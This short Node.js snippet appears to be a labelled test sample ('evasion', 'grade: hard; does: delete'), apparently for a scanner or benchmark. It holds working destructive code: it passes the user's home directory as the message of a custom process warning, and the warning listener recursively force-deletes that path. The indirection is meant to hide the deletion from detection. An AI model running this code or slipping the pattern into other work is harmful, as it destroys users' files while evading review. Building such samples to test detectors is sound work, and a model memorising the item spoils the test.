// evasion: process.emitWarning carries the home directory as a warning's message; the warning listener deletes it
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
process.on("warning", (w) => {
  if (w.name === "CacheWarning") fs.rmSync(w.message, { recursive: true, force: true });
});
process.emitWarning(os.homedir(), "CacheWarning");
